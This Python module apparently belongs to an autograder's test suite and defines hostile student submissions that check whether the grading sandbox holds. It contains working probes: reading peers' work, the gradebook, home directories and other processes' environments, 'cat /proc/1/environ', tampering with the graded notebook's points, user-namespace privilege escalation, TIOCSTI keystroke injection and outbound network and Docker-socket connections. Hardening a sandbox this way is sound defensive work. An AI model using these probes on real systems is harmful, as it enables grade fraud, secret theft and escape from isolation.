"""Reading what is not the student's, by files, /proc and environment; and ways out of the box."""

from tests.hostile.attack import TELL, Attack, in_cells, told
from tests.hostile.listener import PORT

LOOK = r"""
import os
import re
import time

SECRET = re.compile(rb"canary-[a-z]+-[0-9a-f]{12}")


def look(*places, seconds=5):
    end = time.monotonic() + seconds
    for place in places:
        for folder, _, names in os.walk(place):
            for path in (os.path.join(folder, name) for name in names):
                if time.monotonic() > end:
                    return
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
                        with open(path, "rb") as file:
                            found = set(SECRET.findall(file.read()))
                        for secret in found:
                            print(path, secret.decode())
                            yield path
                except OSError:
                    pass
"""


def snoop(name: str, code: str, note: str, **more) -> Attack:
    """An own cell before 1.8 that looks around; all answers are right."""
    more = {"class_": "reading secrets", **more}
    return in_cells(name, more.pop("class_"), {"1-8-romi": LOOK + TELL + code}, note, **more)


def out(name: str, code: str, note: str, **more) -> Attack:
    return in_cells(
        name, "network", {"1-8-romi": TELL + code}, note, canaries=[told("network")], **more
    )


ATTACKS: list[Attack] = [
    snoop(
        "reads-own-notebook",
        """
import glob

for path in glob.glob("*.ipynb") + glob.glob("../*.ipynb"):
    text = open(path).read()
    print(len(text), "BEGIN HIDDEN" in text)
    try:
        open(path, "w").write(text.replace('"points": 3', '"points": 300'))
    except OSError as problem:
        print(type(problem).__name__)
""",
        "Reads and changes the notebook that is being graded.",
    ),
    snoop(
        "reads-peers",
        'list(look("../..", "../../../submitted", "../../../autograded", "/tmp"))',
        "The folders of the other students.",
    ),
    snoop(
        "reads-source-and-gradebook",
        """
import pathlib
import sqlite3

for folder in list(pathlib.Path.cwd().parents)[:6]:
    list(look(folder / "source", folder / "release", folder / "gradebook-backup.txt", seconds=1))
    book = folder / "gradebook.db"
    if book.exists():
        for line in sqlite3.connect(f"file:{book}?mode=ro", uri=True).iterdump():
            for secret in SECRET.findall(line.encode()):
                print(secret.decode())
""",
        "The instructor's version and the gradebook, in every folder above.",
    ),
    snoop(
        "changes-what-it-finds",
        """
import pathlib

parents = list(pathlib.Path.cwd().parents)[:5]
for path in list(look("../..", *[folder / "source" for folder in parents])):
    # Only files that hold a planted secret: they were put there to be found.
    with open(path, "a") as file:
        file.write("changed by a student")
""",
        "Appends a line to every file with a planted secret.",
        dangerous=True,
    ),
    snoop(
        "reads-home",
        """
import pwd

homes = {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, os.environ.get("HOME")}
list(look(*filter(None, homes), "/root", "/home"))
""",
        "The home of whoever grades: keys, passwords, tokens.",
    ),
    snoop(
        "reads-other-processes",
        r"""
for process in os.listdir("/proc"):
    if process.isdigit() and int(process) != os.getpid():
        for file in ("environ", "cmdline", "maps"):
            try:
                content = open(f"/proc/{process}/{file}", "rb").read()
            except OSError:
                continue
            seed = re.search(rb"COURSE_SEED=(\d+)", content)
            if seed:
                print(seed.group(1).decode())
        list(look(f"/proc/{process}/cwd/", f"/proc/{process}/root/home/", seconds=0.3))
""",
        "Environment, command line, working folder and root of every process in sight.",
    ),
    snoop(
        "reads-seed",
        """
import subprocess

print(os.environ.get("COURSE_SEED"))
print(subprocess.run("env; cat /proc/1/environ", shell=True, capture_output=True).stdout)
""",
        "The seed of the hidden cases stands in the environment of the grader.",
    ),
    snoop(
        "reads-open-files",
        """
for descriptor in range(256):
    try:
        target = os.readlink(f"/proc/self/fd/{descriptor}")
    except OSError:
        continue
    if target.endswith((".db", ".ipynb")) or "course" in target:
        tell("descriptor")
    if os.path.isdir(f"/proc/self/fd/{descriptor}"):
        list(look(f"/proc/self/fd/{descriptor}/", seconds=1))
""",
        "Files and folders that the grader left open, such as the gradebook.",
        canaries=[told("descriptor")],
    ),
    snoop(
        "writes-everywhere",
        """
import pathlib

mine = pathlib.Path.cwd().resolve()
places = [*mine.parents, pathlib.Path.home(), *map(pathlib.Path, ["/etc", "/usr", "/var/tmp"])]
for place in places:
    try:
        (place / "hostile-was-here.txt").write_text("here")
    except OSError:
        pass
""",
        "A file in every folder above, in the home and in the system.",
        leftovers=[
            "/hostile-was-here.txt",
            "/etc/hostile-was-here.txt",
            "/usr/hostile-was-here.txt",
        ],
        dangerous=True,
    ),
    snoop(
        "other-rights",
        """
import ctypes
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS = 0x10000000, 0x00020000
print(libc.unshare(NEWUSER | NEWNS), libc.setuid(0), libc.setgid(0))
print(libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None))
print(subprocess.run(["umount", "-l", os.getcwd()], capture_output=True).returncode)
list(look("../..", "/root", "/home", "/tmp"))
""",
        "A user namespace of one's own, with its rights to mount and unmount.",
        dangerous=True,
    ),
    snoop(
        "keyboard-of-the-grader",
        """
import fcntl

TIOCSTI = 0x5412
for place in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/2", "/dev/console"):
    try:
        with open(place, "rb") as terminal:
            fcntl.ioctl(terminal, TIOCSTI, b" ")
            tell("keyboard")
    except OSError:
        pass
""",
        "Types into the terminal from which the grading was started.",
        canaries=[told("keyboard")],
        dangerous=True,
    ),
    out(
        "tcp",
        f"""
import socket

for host in ("127.0.0.1", "localhost", "::1", "1.1.1.1"):
    for port in ({PORT}, 22, 53, 80, 5432, 8888):
        try:
            socket.create_connection((host, port), timeout=0.3).close()
            tell("network")
        except OSError:
            pass
""",
        "Connections to this machine and to the internet.",
        dangerous=True,
    ),
    out(
        "udp",
        f"""
import socket

try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"-".join([b"canary", b"datagram"]), ("127.0.0.1", {PORT}))
        sender.connect(("192.0.2.1", 9))
        if not sender.getsockname()[0].startswith("127."):
            tell("network")
except OSError as problem:
    print(type(problem).__name__)
""",
        "A datagram, and whether there is a way to the outside at all.",
        dangerous=True,
    ),
    out(
        "dns",
        """
import socket

for name in ("example.com", "localhost.example.com"):
    try:
        socket.getaddrinfo(name, 80)
        tell("network")
    except OSError as problem:
        print(type(problem).__name__)
""",
        "Names carry data out where nothing else does.",
        dangerous=True,
    ),
    out(
        "unix-sockets",
        """
import glob
import socket

for path in glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/tmp/**/*.sock") + [
    "/var/run/docker.sock",
    "\\0hostile-listener",
]:
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(0.3)
            client.connect(path)
            tell("network")
    except OSError:
        pass
""",
        "Docker's socket, other services' and an abstract one that no file stands for.",
        dangerous=True,
    ),
    out(
        "downloads",
        f"""
import urllib.request

for address in ("http://example.com", "https://pypi.org/simple/", "http://127.0.0.1:{PORT}/"):
    try:
        urllib.request.urlopen(address, timeout=1).read(1)
        tell("network")
    except Exception as problem:
        print(type(problem).__name__)
try:
    pd.read_csv("http://example.com/orders.csv")
    tell("network")
except Exception as problem:
    print(type(problem).__name__)
""",
        "A page and a table from the internet.",
        dangerous=True,
    ),
    out(
        "listens",
        """
import socket
import threading

server = socket.socket()
try:
    server.bind(("0.0.0.0", 47614))
    server.listen()
    threading.Thread(target=server.accept, daemon=True).start()
except OSError as problem:
    print(type(problem).__name__)
""",
        "A server of the student's own; without a network nobody can reach it.",
        dangerous=True,
    ),
    out(
        "raw-sockets",
        """
import socket

for family in ("AF_PACKET", "AF_NETLINK", "AF_ALG", "AF_VSOCK", "AF_BLUETOOTH"):
    try:
        with socket.socket(getattr(socket, family), socket.SOCK_RAW) as raw:
            if family == "AF_PACKET" and [n for _, n in socket.if_nameindex() if n != "lo"]:
                tell("network")
    except (OSError, AttributeError) as problem:
        print(family, type(problem).__name__)
""",
        "Families of sockets that a filter for TCP and UDP forgets.",
        dangerous=True,
    ),
]
